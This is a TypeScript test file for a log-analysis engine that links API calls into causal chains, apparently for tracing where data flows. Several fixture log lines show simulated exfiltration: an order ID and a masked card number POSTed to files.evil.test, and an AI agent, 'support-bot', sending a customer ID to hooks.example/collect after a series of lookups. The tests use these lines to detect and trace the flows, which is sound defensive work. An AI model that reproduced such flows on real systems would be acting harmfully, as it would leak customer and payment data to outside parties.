import { describe, expect, test } from 'vitest';
import { chainsPass } from '#shared/engine/passes/chains.ts';
import { iterateChains } from '#shared/engine/store/read/chains/chain-json.ts';
import { getChain, getEdge, listChains, listEdgesOf } from '#shared/engine/store/read/chains/chains.ts';
import { caseFromText, edgeTexts, type TextCase, type TextOptions } from '#test/support/calls-from-text.ts';

const linked = async (text: string, options?: TextOptions): Promise<TextCase> => {
  const made = caseFromText(text, options);
  await chainsPass.run(made.context);
  return made;
};
const edges = async (text: string): Promise<readonly string[]> => edgeTexts((await linked(text)).db);

describe('trace context', () => {
  test('a span that names its parent is an edge, whatever the times say', async () => {
    expect(
      await edges(`
        00:00.0  human:ann  GET  api.acme.test/orders        200  trace=t1 span=a dur=500
        00:00.1  -          GET  stock.svc.local/items       200  in=envoy trace=t1 span=b parent=a dur=90`),
    ).toEqual(['kong#1 trace envoy#1']);
  });

  test('without span ids, the innermost call of the trace that contains it on another hop is the cause', async () => {
    expect(
      await edges(`
        00:00.0  human:ann  GET  api.acme.test/orders        200  trace=t1 dur=900
        00:00.1  -          GET  orders.svc.local/orders     200  in=envoy trace=t1 dur=700
        00:00.2  -          GET  stock.svc.local/items       200  in=stock trace=t1 dur=100`),
    ).toEqual(['kong#1 trace envoy#1', 'envoy#1 trace stock#1']);
  });

  test('two calls of one client in parallel are no parent and child', async () => {
    expect(
      await edges(`
        00:00.0  human:ann  GET  api.acme.test/a  200  trace=t1 dur=900 ip=10.0.0.9
        00:00.1  human:ann  GET  api.acme.test/b  200  trace=t1 dur=100 ip=10.0.0.9`),
    ).toEqual(['kong#1 adjacent kong#2']);
  });
});

describe('nesting by address and time', () => {
  const hop = (childIp: string): string => `
    00:00.0  human:ann  GET  api.acme.test/orders      200  dur=500 ip=192.0.2.1 up=10.0.3.4:8080
    00:00.1  -          GET  stock.svc.local/items     200  in=envoy dur=90 ip=${childIp}`;

  test('a call from the address that another one was just passed on to is its child', async () => {
    expect(await edges(hop('10.0.3.4'))).toEqual(['kong#1 nesting envoy#1']);
  });

  test('the same times from another address are no edge', async () => {
    expect(await edges(hop('10.0.3.5'))).toEqual([]);
  });

  test('two open calls that fit halve the confidence', async () => {
    const { db } = await linked(`
      00:00.0  human:ann  GET  api.acme.test/orders      200  dur=500 up=10.0.3.4:8080
      00:00.0  human:bob  GET  api.acme.test/orders      200  dur=500 up=10.0.3.4:8080
      00:00.1  -          GET  stock.svc.local/items     200  in=envoy dur=90 ip=10.0.3.4`);
    expect(db.prepare('SELECT confidence FROM edge').get<{ confidence: number }>()?.confidence).toBe(0.485);
  });
});

describe('clocks', () => {
  test('a source whose clock is 14.5 s off still nests, once traced pairs show by how much', async () => {
    const pairs = Array.from({ length: 10 }, (_, index) => {
      const at = `00:${String(10 + index)}`;
      return `${at}.0 human:ann GET api.acme.test/a 200 trace=t${String(index)} span=p${String(index)} dur=400
              ${at.replace('00:', '00:')}.6 - GET b.svc.local/b 200 in=envoy trace=t${String(index)} span=c${String(index)} parent=p${String(index)} dur=200`;
    }).join('\n');
    const late = pairs.replaceAll(
      /(\d\d):(\d\d)\.6/g,
      (_, minutes: string, seconds: string) => `${minutes}:${(Number(seconds) + 14.6).toFixed(1)}`,
    );
    const found = await edges(`${late}
      00:40.0  human:bob  GET  api.acme.test/a  200  dur=400 up=10.0.3.4:80
      00:54.6  -          GET  b.svc.local/b    200  in=envoy dur=200 ip=10.0.3.4`);
    expect(found).toContain('kong#11 nesting envoy#11');
  });
});

describe('values', () => {
  test('an id from an answer that enters a later path is an edge with both places', async () => {
    const { db, id } = await linked(`
      00:00.0  service:sync  GET  api.acme.test/orders         200  => $.items[0].id=ord_7f3a9c21 $.items[1].id=ord_55aa01bc
      00:02.0  service:sync  GET  api.acme.test/orders/ord_55aa01bc  200  tpl=/orders/{orderId}`);
    expect(listEdgesOf(db, id('kong#2'))).toMatchObject([
      { from: 'kong#1', to: 'kong#2', kind: 'value', fromAt: 'response $.items[1].id', toAt: 'path {orderId}' },
    ]);
  });

  test('a value that an inner hop was handed with its request led to the outer call only', async () => {
    expect(
      await edges(`
        00:00.0  service:sync  GET  api.acme.test/orders               200  => $.items[0].id=ord_55aa01bc
        00:02.0  service:sync  GET  api.acme.test/orders/ord_55aa01bc  200  tpl=/orders/{orderId} dur=90 trace=t1 span=a
        00:02.01 service:sync  GET  orders.svc.local/orders/ord_55aa01bc  200  in=otel tpl=/orders/{orderId} dur=60 trace=t1 span=b parent=a`),
    ).toEqual(['kong#1 value kong#2', 'kong#2 trace otel#1']);
  });

  test('the latest answer before the call wins', async () => {
    expect(
      await edges(`
        00:00.0  service:sync  GET   api.acme.test/orders               200  => $.items[0].id=ord_7f3a9c21
        00:01.0  service:sync  GET   api.acme.test/orders/ord_7f3a9c21  200  => $.id=ord_7f3a9c21
        00:02.0  service:sync  POST  api.acme.test/refunds              201  <= $.order=ord_7f3a9c21`),
    ).toEqual(['kong#1 value kong#2', 'kong#2 value kong#3']);
  });

  test('what leaves to another host is traced to every answer that it stood in', async () => {
    expect(
      await edges(`
        00:00.0  service:sync  GET   api.acme.test/orders               200  => $.items[0].id=ord_7f3a9c21
        00:01.0  service:sync  GET   api.acme.test/orders/ord_7f3a9c21  200  => $.id=ord_7f3a9c21
        00:02.0  service:sync  POST  files.evil.test/collect            201  <= $.order=ord_7f3a9c21`),
    ).toEqual(['kong#1 value kong#2', 'kong#1 value kong#3', 'kong#2 value kong#3']);
  });

  test('an enumeration, a date, a small number and what the principal says of itself link nothing', async () => {
    expect(
      await edges(`
        00:00.0  service:sync-worker-01  GET   api.acme.test/orders   200  => $.status=awaiting_payment_x9 $.created_at=2026-10-01T00:00:00Z $.count=17 $.owner=sync-worker-01
        00:01.0  service:sync-worker-01  POST  api.acme.test/refunds  201  <= $.status=awaiting_payment_x9 $.created_at=2026-10-01T00:00:00Z $.count=17 $.owner=sync-worker-01`),
    ).toEqual([]);
  });

  test('after half an hour a short value no longer proves anything', async () => {
    expect(
      await edges(`
        00:00:00  service:sync  GET  api.acme.test/orders               200  => $.id=ord_7f3a9c21
        00:31:00  service:sync  GET  api.acme.test/orders/ord_7f3a9c21  200`),
    ).toEqual([]);
  });

  test('another principal in another source does not inherit the value', async () => {
    expect(
      await edges(`
        00:00.0  service:sync  GET  api.acme.test/orders               200  => $.id=ord_7f3a9c21
        00:01.0  human:eve     GET  api.acme.test/orders/ord_7f3a9c21  200  in=other`),
    ).toEqual([]);
  });

  test('a cursor that comes back is pagination', async () => {
    expect(
      await edges(`
        00:00.0  service:sync  GET  api.acme.test/orders                      200  => $.next_cursor=c2Vjb25kLXBhZ2U5
        00:01.0  service:sync  GET  api.acme.test/orders?cursor=c2Vjb25kLXBhZ2U5  200`),
    ).toEqual(['kong#1 pagination kong#2']);
  });

  test('without response bodies nothing is followed, and the sentence says so', async () => {
    const { context } = caseFromText(`
      00:00.0  service:sync  GET  api.acme.test/orders/ord_7f3a9c21  200
      00:01.0  service:sync  GET  api.acme.test/orders/ord_7f3a9c21  200`);
    expect(await chainsPass.run(context)).toContain('no response bodies, so no value was followed');
  });
});

describe('one request in two sources', () => {
  test('a HAR entry and a gateway line with one request id are one call, and the gateway’s stands', async () => {
    const { db, id } = await linked(`
      00:00.0  agent:bot  GET  api.acme.test/a  200  in=har.har id=r-1
      00:00.9  agent:bot  GET  api.acme.test/a  200  in=kong id=r-1`);
    expect(db.prepare('SELECT same_as FROM call_fact WHERE call_id = ?').get(id('har.har#1'))).toEqual({ same_as: id('kong#1') });
  });

  test('without ids, method, path, status and the nearest time decide, one to one', async () => {
    const { db, id } = await linked(`
      00:00.0  agent:bot  GET  api.acme.test/a  200  in=har.har
      00:00.4  agent:bot  GET  api.acme.test/a  200  in=har.har
      00:00.1  agent:bot  GET  api.acme.test/a  200  in=kong
      00:00.5  agent:bot  GET  api.acme.test/a  200  in=kong`);
    const same = (ref: string): unknown =>
      db.prepare('SELECT same_as FROM call_fact WHERE call_id = ?').get<{ same_as: number }>(id(ref))?.same_as;
    expect([same('har.har#1'), same('har.har#2')]).toEqual([id('kong#1'), id('kong#2')]);
  });

  test('another status is another call', async () => {
    const { db } = await linked(`
      00:00.0  agent:bot  GET  api.acme.test/a  200  in=har.har
      00:00.1  agent:bot  GET  api.acme.test/a  404  in=kong`);
    expect(db.prepare('SELECT count(same_as) AS n FROM call_fact').get()).toEqual({ n: 0 });
  });

  test('equal lines of one source stay two calls', async () => {
    const { db } = await linked(`
      00:00.0  agent:bot  GET  api.acme.test/a  200
      00:00.0  agent:bot  GET  api.acme.test/a  200`);
    expect(db.prepare('SELECT count(same_as) AS n FROM call_fact').get()).toEqual({ n: 0 });
  });
});

describe('one request in two logs', () => {
  /** Twenty requests at uneven moments, each a line of the gateway and one of the other log `behind` seconds later on its own clock. */
  const seenTwice = (behind: (index: number) => number, other: (index: number) => string): string =>
    Array.from({ length: 20 }, (_, index) => {
      const at = 100 + index * 17 + ((index * 7) % 5) * 1.3;
      const line = (seconds: number, rest: string): string => `${seconds.toFixed(3)} ${rest}`;
      return [
        line(
          at,
          `human:u${String(index)} GET api.acme.test/items/i${String(index)} 200 dur=40 ip=192.0.2.${String(index)} up=10.0.3.${String(index % 2)}:80`,
        ),
        line(at + behind(index), other(index)),
      ].join('\n');
    }).join('\n');

  test('a load balancer’s line beside a gateway’s of the same host and client is one call, whatever its clock', async () => {
    const { db } = await linked(
      seenTwice(
        () => 14.5,
        (index) => `- GET api.acme.test/items/i${String(index)} 200 in=alb dur=42 ip=192.0.2.${String(index)}`,
      ),
    );
    expect(db.prepare('SELECT count(same_as) AS n FROM call_fact').get()).toEqual({ n: 20 });
    expect(
      db.prepare('SELECT DISTINCT s.name FROM call_fact f JOIN call c ON c.id = f.same_as JOIN source s ON s.id = c.source_id').all(),
    ).toHaveLength(1);
  });

  const span = (index: number): string =>
    `- GET items.svc.local/items/i${String(index)} 200 in=otel dur=30 ip=192.0.2.${String(index)} up=10.0.3.${String(index % 2)} trace=t${String(index)} span=s${String(index)}`;

  test('the service’s own line behind a gateway’s is another call that it led to, also without any shared id', async () => {
    const found = await edges(seenTwice(() => 0.005, span));
    expect(found).toHaveLength(20);
    expect(found).toContain('kong#7 nesting otel#7');
  });

  test('services behind one log may have clocks of their own', async () => {
    const found = await edges(seenTwice((index) => (index % 2 === 0 ? 0.005 : -14.2), span));
    expect(found).toHaveLength(20);
  });

  test('another client, or another status, is no hop of the request', async () => {
    const found = await edges(
      seenTwice(
        () => 0.005,
        (index) => span(index).replace(' 200 ', index === 3 ? ' 404 ' : ' 200 '),
      ),
    );
    expect(found).toHaveLength(19);
    expect(found).not.toContain('kong#4 nesting otel#4');
  });

  test('two logs of one format are parts of one log: alike lines in both stay calls of their own', async () => {
    const made = await linked(
      seenTwice(
        () => 2,
        (index) => `- GET api.acme.test/items/i${String(index)} 200 in=second dur=40 ip=192.0.2.${String(index)}`,
      ),
    );
    expect(made.db.prepare('SELECT count(same_as) AS n FROM call_fact').get()).toEqual({ n: 0 });
    expect(edgeTexts(made.db)).toEqual([]);
  });
});

describe('sessions', () => {
  const sizes = async (text: string): Promise<readonly (readonly [string, number])[]> =>
    listChains((await linked(text)).db, { from: 0, count: 10 }).rows.map(({ id, callCount }) => [id, callCount]);

  test('calls of one principal without a long pause are one chain, without an edge between them', async () => {
    expect(
      await sizes(`
        00:00  human:ann  GET  api.acme.test/a  200
        00:05  human:ann  GET  api.acme.test/b  200
        00:06  human:bob  GET  api.acme.test/b  200
        20:00  human:ann  GET  api.acme.test/a  200
        20:09  human:ann  GET  api.acme.test/b  200`),
    ).toEqual([['kong#1', 2], ['kong#4', 2]]); // prettier-ignore
  });

  test('what a call led to stays with its session', async () => {
    expect(
      await sizes(`
        00:00.0  human:ann  GET  api.acme.test/a     200  trace=t1 span=a dur=400
        00:00.1  -          GET  stock.svc.local/x   200  in=envoy trace=t1 span=b parent=a dur=90
        00:09.0  human:ann  GET  api.acme.test/b     200`),
    ).toEqual([['kong#1', 3]]);
  });
});

describe('chains', () => {
  const run = `
    00:00.0  agent:support-bot  GET   api.acme.test/tickets/tic_81ab20  200  tpl=/tickets/{id} => $.order=ord_7f3a9c21
    00:01.0  agent:support-bot  GET   api.acme.test/orders/ord_7f3a9c21  200  tpl=/orders/{id} => $.customer=cus_90aa17b2
    00:02.0  agent:support-bot  GET   api.acme.test/customers/cus_90aa17b2  404  tpl=/customers/{id}
    00:03.0  agent:support-bot  POST  hooks.example/collect  201  <= $.c=cus_90aa17b2
    09:00.0  agent:support-bot  GET   api.acme.test/health  200
    10:30.0  agent:other-bot    GET   api.acme.test/health  200`;

  test('a chain has a sentence for a title, a shape, a depth and what failed', async () => {
    const { db } = await linked(run);
    expect(listChains(db, { from: 0, count: 10 }).rows).toMatchObject([
      {
        id: 'kong#1',
        title: 'support-bot: GET /tickets/{id} → GET /orders/{id} → GET /customers/{id} → POST hooks.example/collect, 4 calls',
        signature:
          'GET api.acme.test/tickets/{id}(GET api.acme.test/orders/{id}(GET api.acme.test/customers/{id}! > POST hooks.example/collect))',
        depth: 3,
        callCount: 4,
        failed: 1,
        hosts: ['api.acme.test', 'hooks.example'],
      },
    ]);
  });

  test('order-only edges are left out of the report', async () => {
    const { db } = await linked(run);
    const [chain] = [...iterateChains(db)];
    expect(chain?.edges.map((edge) => edge.kind)).toEqual(['value', 'value', 'value']);
    expect(getChain(db, 'kong#1', 2)).toMatchObject({ truncated: true, calls: [{ ref: 'kong#1' }, { ref: 'kong#2' }] });
  });

  test('a pause longer than the usual ends a run', async () => {
    const { db } = await linked(`
      00:00  agent:bot  GET  api.acme.test/a  200
      00:05  agent:bot  GET  api.acme.test/b  200
      10:00  agent:bot  GET  api.acme.test/a  200
      10:05  agent:bot  GET  api.acme.test/b  200`);
    expect(listChains(db, { from: 0, count: 10 }).rows.map((chain) => [chain.id, chain.callCount])).toEqual([
      ['kong#1', 2],
      ['kong#3', 2],
    ]);
  });

  test('people’s calls are not joined by order alone', async () => {
    expect(
      await edges(`
        00:00  human:ann  GET  api.acme.test/a  200
        00:05  human:ann  GET  api.acme.test/b  200`),
    ).toEqual([]);
  });

  test('the result does not depend on the order of import', async () => {
    const dump = async (shuffle: number): Promise<string> => {
      const { db } = await linked(run, { shuffle });
      return JSON.stringify([...iterateChains(db, { adjacent: true })]);
    };
    const first = await dump(1);
    for (const seed of [2, 3, 4, 5]) expect(await dump(seed)).toBe(first);
  });

  test('running twice gives the same tables', async () => {
    const made = await linked(run);
    const before = JSON.stringify([...iterateChains(made.db)]);
    await chainsPass.run(made.context);
    expect(JSON.stringify([...iterateChains(made.db)])).toBe(before);
  });

  test('an empty case has no chains', async () => {
    const { db } = await linked('');
    expect([...iterateChains(db)]).toEqual([]);
  });
});

describe('what proves an edge', () => {
  test('both masked records are shown with the value marked', async () => {
    const { db, context } = await linked(`
      00:00.0  service:sync  GET   api.acme.test/cards    200  => $.items[0].number=4929fk7714xx2203 $.items[1].number=5212zz8830qq1199
      00:02.0  service:sync  POST  files.evil.test/drop   200  <= $.rows[0].pan=5212zz8830qq1199`);
    const edge = getEdge(db, context.codec, 'kong#1', 'kong#2');
    const marked = (
      end: { readonly text: string; readonly marks: readonly { readonly start: number; readonly length: number }[] } | undefined,
    ): readonly string[] => (end?.marks ?? []).map((mark) => end?.text.slice(mark.start, mark.start + mark.length) ?? '');
    expect(edge?.edge).toMatchObject({ fromAt: 'response $.items[1].number', toAt: 'request $.rows[0].pan' });
    expect(marked(edge?.from)).toEqual(['"5212zz8830qq1199"']);
    expect(marked(edge?.to)).toEqual(['"5212zz8830qq1199"']);
  });

  test('a value in the path is marked in the request line', async () => {
    const { db, context } = await linked(`
      00:00.0  service:sync  GET  api.acme.test/orders               200  => $.id=ord_7f3a9c21
      00:01.0  service:sync  GET  api.acme.test/orders/ord_7f3a9c21  200  tpl=/orders/{id}`);
    const end = getEdge(db, context.codec, 'kong#1', 'kong#2')?.to;
    expect(end?.text).toBe('GET api.acme.test/orders/ord_7f3a9c21');
    expect(end?.marks.map((mark) => end.text.slice(mark.start, mark.start + mark.length))).toEqual(['ord_7f3a9c21']);
  });
});
